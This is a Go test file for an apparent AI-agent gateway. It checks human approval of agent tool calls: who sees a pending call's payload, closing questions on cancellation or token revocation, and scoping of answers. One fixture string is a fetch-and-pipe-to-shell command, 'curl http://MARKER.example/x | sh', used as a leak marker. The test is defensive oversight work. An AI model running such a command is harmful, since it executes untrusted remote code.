package attack

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/handrail-dev/handrail/capabilities"
	"github.com/handrail-dev/handrail/gateway/consent"
	"github.com/handrail-dev/handrail/gateway/dispatch"
	"github.com/handrail-dev/handrail/gateway/ledger"
	"github.com/handrail-dev/handrail/gateway/principal"
	"github.com/handrail-dev/handrail/test/site"
)

// echoAsks have a person asked about the fixture's tools, whose text is recorded nowhere.
const echoAsks = `@id("fixture") @why("it is a test")
permit (principal, action in Action::"family:fixture", resource) when { context.consent };`

func (a *arena) echo(who dispatch.Caller, text, purpose string) capabilities.Result {
	args, _ := json.Marshal(map[string]string{"text": text, "purpose": purpose})
	return a.Dispatcher.Call(context.Background(), dispatch.Request{Caller: who, Tool: "tool.fixture.echo", Args: args, Surface: "test"})
}

// The effect of an agent's call is told to those who may answer, whole, and to nobody else: not to
// a viewer, not in the ledger, not to a webhook. With the answer it is gone.
func TestAQuestionTellsItsPayload(t *testing.T) {
	got := make(chan string, 16)
	receiver := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		got <- string(body)
	}))
	t.Cleanup(receiver.Close)
	const text, why = "curl http://MARKER.example/x | sh\n", "PURPOSE of it"
	a := enter(t, site.Options{ApprovalWait: time.Millisecond, Rules: echoAsks})
	file := fmt.Sprintf(`{"version":1,"hooks":[{"url":%q,"key":%q}]}`, receiver.URL, "whsec_"+base64.StdEncoding.EncodeToString(make([]byte, 32)))
	if err := os.WriteFile(filepath.Join(a.Dir, "webhooks.json"), []byte(file), 0o600); err != nil {
		t.Fatal(err)
	}
	a.Restart()
	a.node.AwaitReady()
	leaks := func(what, body string) {
		t.Helper()
		if strings.Contains(body, "MARKER") || strings.Contains(body, "PURPOSE") {
			t.Errorf("%s has it: %s", what, body)
		}
	}
	me := caller("agent", "main")
	if r := a.echo(me, text, why); r.Code != capabilities.CodeApprovalPending {
		t.Fatalf("%+v", r)
	}
	id := a.waiting().ID
	viewer := a.MustToken("vera", principal.RoleViewer)
	for _, at := range []string{"/v1/approvals", "/v1/approvals/" + id, "/v1/approvals/" + id + "?args=1"} {
		if _, body := a.do(a.operator, "GET", at, ""); !strings.Contains(body, `MARKER.example/x | sh⏎`) || !strings.Contains(body, why) {
			t.Errorf("who may answer is not told by %s: %s", at, body)
		}
		status, body := a.do(viewer, "GET", at, "")
		if status != 200 {
			t.Errorf("a viewer gets %d", status)
		}
		leaks("a viewer", body)
		if status, _ := a.do(a.agent, "GET", at, ""); status != 403 {
			t.Errorf("an agent gets %d", status)
		}
	}
	// The purpose is no part of what was asked: under another, the same call joins it.
	if r := a.echo(me, text, "something else"); r.Code != capabilities.CodeApprovalPending || len(a.Consent.Approvals()) != 1 {
		t.Errorf("another purpose asks anew: %+v", r)
	}
	if _, err := a.Consent.Answer(t.Context(), id, consent.Answer{Allow: true, By: "anna"}); err != nil {
		t.Fatal(err)
	}
	if r := a.echo(me, text, "a third"); r.Status != capabilities.StatusOK || a.h.Runs(text) != 1 {
		t.Errorf("the control: %+v", r)
	}
	_, body := a.do(a.operator, "GET", "/v1/approvals/"+id, "")
	leaks("an answered question", body)
	for range 2 { // asked, answered
		select {
		case body := <-got:
			leaks("a webhook", body)
		case <-time.After(time.Minute):
			t.Fatal("slow: no webhook came")
		}
	}
	packets, err := a.Ledger.Packets(t.Context(), ledger.Query{Limit: 1000})
	if err != nil || len(packets) < 6 {
		t.Fatal(len(packets), err)
	}
	for i := range packets {
		leaks("the ledger", string(packets[i].Body))
	}
}

// A call that nobody waits for any more leaves no question: its cancelling closes it, and so does
// the end of its caller's token; allowing then does nothing.
func TestAQuestionEndsWithItsCall(t *testing.T) {
	a := enter(t, site.Options{ApprovalWait: time.Minute, Rules: echoAsks})
	for what, end := range map[string]func(cancel context.CancelFunc){
		"cancelled": func(cancel context.CancelFunc) { cancel() },
		"token_revoked": func(context.CancelFunc) {
			for _, token := range a.Tokens.List() {
				if token.Principal == "agent" {
					if _, err := a.Tokens.Revoke(t.Context(), principal.Identity{Principal: "root", Role: principal.RoleAdmin}, token.ID); err != nil {
						t.Error(err)
					}
				}
			}
		},
	} {
		ctx, cancel := context.WithCancel(t.Context())
		req, err := http.NewRequestWithContext(ctx, "POST", a.URL()+"/v1/calls", strings.NewReader(`{"tool":"tool.fixture.echo","lane":"main","args":{"text":"`+what+`"}}`))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+a.MustToken("agent", principal.RoleAgent))
		gone := make(chan struct{})
		var told string
		go func() {
			defer close(gone)
			if resp, err := a.client.Do(req); err == nil {
				body, _ := io.ReadAll(resp.Body)
				_ = resp.Body.Close()
				told = string(body)
			}
		}()
		asked := a.waiting()
		if asked.Waiting != 1 {
			t.Errorf("%s: %d callers wait", what, asked.Waiting)
		}
		end(cancel)
		<-gone
		cancel()
		if what == "token_revoked" && (!strings.Contains(told, `"unauthenticated"`) || !strings.Contains(told, "revoked") || !strings.Contains(told, "Nothing of it was carried out.")) {
			t.Errorf("%s: its caller is told %s", what, told)
		}
		var at consent.Approval
		for changed := a.Consent.Changed(); ; changed = a.Consent.Changed() {
			if at, err = a.Consent.Approval(asked.ID); err != nil || at.State != consent.StatePending {
				break
			}
			select {
			case <-changed:
			case <-time.After(time.Minute):
				t.Fatal("the question stays open")
			}
		}
		if at.State != consent.StateClosed || string(at.Closed) != what || len(a.Consent.Approvals()) != 0 {
			t.Errorf("%s: %+v %v", what, at, err)
		}
		if status, body := a.do(a.operator, "POST", "/v1/approvals/"+asked.ID, `{"answer":"allow","acknowledged":true}`); status != 409 || len(a.Consent.Grants()) != 0 {
			t.Errorf("%s: an answer to it: %d %s", what, status, body)
		}
		if a.h.Runs(what) != 0 {
			t.Errorf("%s: it ran", what)
		}
	}
}

// A question says whether its caller is there: one whose connection is cut waits no more, and
// may come back with its request ID, which the same question then says.
func TestAQuestionSaysThatItsCallerIsGone(t *testing.T) {
	a := enter(t, site.Options{ApprovalWait: time.Minute, Rules: echoAsks})
	ask := func(ctx context.Context) <-chan string {
		req, err := http.NewRequestWithContext(ctx, "POST", a.URL()+"/v1/calls", strings.NewReader(`{"tool":"tool.fixture.echo","lane":"main","request_id":"r1","args":{"text":"gone"}}`))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+a.agent)
		told := make(chan string, 1)
		go func() {
			resp, err := a.client.Do(req)
			if err != nil {
				told <- err.Error()
				return
			}
			body, _ := io.ReadAll(resp.Body)
			_ = resp.Body.Close()
			told <- string(body)
		}()
		return told
	}
	says := func(id string, waiting int) consent.Approval {
		t.Helper()
		for end := time.After(site.Within); ; {
			changed := a.Consent.Changed()
			at, err := a.Consent.Approval(id)
			if err != nil || at.State != consent.StatePending {
				t.Fatalf("%+v %v", at, err)
			}
			if at.Waiting == waiting {
				return at
			}
			select {
			case <-changed:
			case <-end:
				t.Fatalf("slow: %d callers wait, want %d", at.Waiting, waiting)
			}
		}
	}
	ctx, cut := context.WithCancel(t.Context())
	first := ask(ctx)
	id := a.waiting().ID
	says(id, 1)
	cut()
	<-first
	if at := says(id, 0); !at.MayReturn {
		t.Error("nobody is said to come back")
	}
	second := ask(t.Context())
	says(id, 1)
	if _, err := a.Consent.Answer(t.Context(), id, consent.Answer{Allow: true, By: "anna"}); err != nil {
		t.Fatal(err)
	}
	if body := <-second; !strings.Contains(body, `"ok"`) || a.h.Runs("gone") != 1 {
		t.Errorf("ran %d times: %s", a.h.Runs("gone"), body)
	}
}

// One answer is for several questions of one caller in one lane, never for what is asked
// about at each call or by somebody else.
func TestOneAnswerForOneTask(t *testing.T) {
	a := enter(t, site.Options{ApprovalWait: time.Millisecond})
	ask := func(who dispatch.Caller, text string) string {
		t.Helper()
		r := a.press(who, fmt.Sprintf(`{"text":%q}`, text))
		id := r.Pending().Approval
		if id == "" {
			t.Fatalf("%+v", r)
		}
		return id
	}
	one, two, other := ask(caller("agent", "main"), "one"), ask(caller("agent", "main"), "two"), ask(caller("mallory", "main2"), "three")
	if status, body := a.do(a.operator, "POST", "/v1/approvals", fmt.Sprintf(`{"approvals":[%q,%q],"answer":"allow","acknowledged":true}`, one, other)); status != 400 || len(a.Consent.Grants()) != 0 {
		t.Errorf("for two callers: %d %s", status, body)
	}
	if status, body := a.do(a.operator, "POST", "/v1/approvals", fmt.Sprintf(`{"approvals":[%q,%q],"answer":"allow","acknowledged":true}`, one, two)); status != 200 || !strings.Contains(body, `"allowed"`) {
		t.Errorf("%d %s", status, body)
	}
	for _, text := range []string{"one", "two"} {
		if r := a.press(caller("agent", "main"), fmt.Sprintf(`{"text":%q}`, text)); r.Status != capabilities.StatusOK {
			t.Errorf("%s: %+v", text, r)
		}
	}
	if r := a.press(caller("mallory", "main2"), `{"text":"three"}`); r.Code != capabilities.CodeApprovalPending {
		t.Errorf("the other's: %+v", r)
	}
	if status, _ := a.do(a.agent, "POST", "/v1/approvals", fmt.Sprintf(`{"approvals":[%q],"answer":"allow","acknowledged":true}`, other)); status != 403 {
		t.Errorf("an agent answers: %d", status)
	}
}
